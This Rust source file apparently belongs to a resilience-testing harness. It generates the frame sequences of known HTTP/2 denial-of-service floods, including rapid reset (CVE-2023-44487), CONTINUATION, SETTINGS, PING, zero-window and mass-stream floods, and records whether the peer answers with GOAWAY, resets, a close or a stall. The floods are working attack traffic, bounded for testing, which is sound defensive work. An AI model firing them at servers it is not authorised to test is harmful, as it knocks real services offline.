//! HTTP/2 abuse on the wire: the frame sequences of the known floods (rapid reset,
//! CONTINUATION, SETTINGS, PING, a zero window, thousands of streams), written as fast
//! as the peer takes them while another task reads what the peer answers, until the
//! peer sends GOAWAY, closes, or a deadline passes. What came back is the
//! [`Outcome`]. Each sequence is bounded in frames and bytes.

use std::{
    collections::BTreeMap,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};

use crate::wire::{encode_frame, frame, header_block, headers_frames};

/// `RST_STREAM` error code CANCEL.
pub const CANCEL: u32 = 0x8;
/// `SETTINGS_INITIAL_WINDOW_SIZE`.
const INITIAL_WINDOW_SIZE: u16 = 0x4;

/// What the peer did under a flood.
#[derive(Debug, Default, Clone)]
pub struct Outcome {
    /// The error code of the peer's GOAWAY (the last one), if it sent one.
    pub goaway: Option<u32>,
    /// `RST_STREAM`s from the peer, by error code.
    pub resets: BTreeMap<u32, u64>,
    /// Response HEADERS from the peer.
    pub responses: u64,
    /// SETTINGS and PING acknowledgements from the peer.
    pub acks: u64,
    /// The peer closed the connection (or reset it).
    pub closed: bool,
    /// Bytes of the flood the peer took before it stopped reading or closed.
    pub written: u64,
    /// The writes stopped because the peer stopped reading (flow control of TCP).
    pub stalled: bool,
}

impl Outcome {
    /// The peer pushed back: a GOAWAY, a close, refused streams or a stalled writer.
    pub fn pushed_back(&self) -> bool {
        self.goaway.is_some() || self.closed || self.stalled || !self.resets.is_empty()
    }
}

/// The kinds of flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams opened and cancelled at once (CVE-2023-44487).
    RapidReset,
    /// One header block that never ends, in CONTINUATION frames (CVE-2024-27316 and
    /// its kin).
    Continuation,
    /// SETTINGS frames, each needing an acknowledgement.
    Settings,
    /// PING frames, each needing an answer.
    Ping,
    /// A stream receive window of zero: 100 requests whose answers can never be sent,
    /// held open.
    ZeroWindow,
    /// 10,000 streams opened without waiting.
    Streams,
}

impl Flood {
    pub const ALL: [Flood; 6] = [
        Flood::RapidReset,
        Flood::Continuation,
        Flood::Settings,
        Flood::Ping,
        Flood::ZeroWindow,
        Flood::Streams,
    ];
}

/// The frames of `flood` after the preface, in batches of about 64 KiB. `request` is
/// the header fields of one stream's request (a CONNECT for HBONE, a GET or POST for
/// HTTP/2 to an application).
pub fn batches(flood: Flood, request: &[(&str, &str)]) -> Vec<Vec<u8>> {
    let block = header_block(request);
    let mut out: Vec<Vec<u8>> = Vec::new();
    let mut batch = Vec::new();
    let mut push = |frame: Vec<u8>, out: &mut Vec<Vec<u8>>| {
        batch.extend(frame);
        if batch.len() >= 64 * 1024 {
            out.push(std::mem::take(&mut batch));
        }
    };
    match flood {
        Flood::RapidReset => {
            for i in 0..10_000u32 {
                let stream = 2 * i + 1;
                push(headers_frames(stream, &block, false), &mut out);
                push(
                    encode_frame(frame::RST_STREAM, 0, stream, &CANCEL.to_be_bytes()),
                    &mut out,
                );
            }
        }
        Flood::Continuation => {
            // HEADERS without END_HEADERS, then 64 MiB of CONTINUATION.
            push(encode_frame(frame::HEADERS, 0, 1, &block), &mut out);
            let junk = header_block(&[("x-flood", &"a".repeat(16_000))]);
            for _ in 0..4096 {
                push(encode_frame(frame::CONTINUATION, 0, 1, &junk), &mut out);
            }
        }
        Flood::Settings => {
            for _ in 0..100_000 {
                push(encode_frame(frame::SETTINGS, 0, 0, &[]), &mut out);
            }
        }
        Flood::Ping => {
            for i in 0..100_000u64 {
                push(encode_frame(frame::PING, 0, 0, &i.to_be_bytes()), &mut out);
            }
        }
        Flood::ZeroWindow => {
            let mut setting = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
            setting.extend_from_slice(&0u32.to_be_bytes());
            push(encode_frame(frame::SETTINGS, 0, 0, &setting), &mut out);
            // Within the connection's first window (65,535 bytes), so the flood keeps
            // to flow control itself: 100 streams of 512 bytes each.
            let body = vec![b'z'; 512];
            for i in 0..100u32 {
                let stream = 2 * i + 1;
                push(headers_frames(stream, &block, false), &mut out);
                push(encode_frame(frame::DATA, 0, stream, &body), &mut out);
            }
        }
        Flood::Streams => {
            for i in 0..10_000u32 {
                push(headers_frames(2 * i + 1, &block, false), &mut out);
            }
        }
    }
    if !batch.is_empty() {
        out.push(batch);
    }
    out
}

/// Writes `batches` to `io` (the preface already sent) while reading the peer's frames,
/// for at most `limit`; then reads on for `linger` to see the peer's last word. The
/// peer's SETTINGS are acknowledged once, at the start, as a client would.
pub async fn run<S>(io: S, batches: Vec<Vec<u8>>, limit: Duration, linger: Duration) -> Outcome
where
    S: AsyncRead + AsyncWrite + Send + 'static,
{
    let (mut r, mut w) = tokio::io::split(io);
    let done = Arc::new(AtomicBool::new(false));
    let seen = Arc::new(std::sync::Mutex::new(Outcome::default()));
    let reader = {
        let (done, seen) = (Arc::clone(&done), Arc::clone(&seen));
        tokio::spawn(async move {
            let mut buf = Vec::with_capacity(64 * 1024);
            let mut chunk = vec![0u8; 64 * 1024];
            loop {
                match r.read(&mut chunk).await {
                    Ok(0) | Err(_) => {
                        seen.lock().unwrap().closed = true;
                        break;
                    }
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
                let mut o = seen.lock().unwrap();
                let mut at = 0;
                while buf.len() - at >= 9 {
                    let head = &buf[at..at + 9];
                    let len = (usize::from(head[0]) << 16)
                        | (usize::from(head[1]) << 8)
                        | usize::from(head[2]);
                    if buf.len() - at < 9 + len {
                        break;
                    }
                    let (kind, flags) = (head[3], head[4]);
                    let payload = &buf[at + 9..at + 9 + len];
                    match kind {
                        frame::GOAWAY if payload.len() >= 8 => {
                            o.goaway = Some(u32::from_be_bytes([
                                payload[4], payload[5], payload[6], payload[7],
                            ]));
                        }
                        frame::RST_STREAM if payload.len() >= 4 => {
                            let code = u32::from_be_bytes([
                                payload[0], payload[1], payload[2], payload[3],
                            ]);
                            *o.resets.entry(code).or_default() += 1;
                        }
                        frame::HEADERS => o.responses += 1,
                        frame::SETTINGS | frame::PING if flags & frame::ACK != 0 => o.acks += 1,
                        _ => {}
                    }
                    at += 9 + len;
                }
                buf.drain(..at);
                if o.goaway.is_some() {
                    done.store(true, Ordering::Release);
                }
            }
            done.store(true, Ordering::Release);
        })
    };
    let deadline = tokio::time::Instant::now() + limit;
    let mut written = 0u64;
    let mut stalled = false;
    // An ACK of the peer's SETTINGS goes first; it is tiny and the peer sent them.
    let _ = w
        .write_all(&encode_frame(frame::SETTINGS, frame::ACK, 0, &[]))
        .await;
    for b in batches {
        if done.load(Ordering::Acquire) {
            break;
        }
        // A batch the peer does not take within a second: it stopped reading.
        match tokio::time::timeout(Duration::from_secs(1), w.write_all(&b)).await {
            Ok(Ok(())) => written += b.len() as u64,
            Ok(Err(_)) => break,
            Err(_) => {
                stalled = true;
                break;
            }
        }
        if tokio::time::Instant::now() >= deadline {
            break;
        }
    }
    let _ = tokio::time::timeout(Duration::from_secs(1), w.flush()).await;
    let linger_end = tokio::time::Instant::now() + linger;
    while !done.load(Ordering::Acquire) && tokio::time::Instant::now() < linger_end {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // The connection goes away with the writer and the reader.
    reader.abort();
    let _ = reader.await;
    drop(w);
    let mut o = seen.lock().unwrap().clone();
    o.written = written;
    o.stalled = stalled;
    o
}

/// The client preface, for a plaintext (prior knowledge) HTTP/2 connection.
pub fn preface() -> Vec<u8> {
    crate::wire::preface()
}
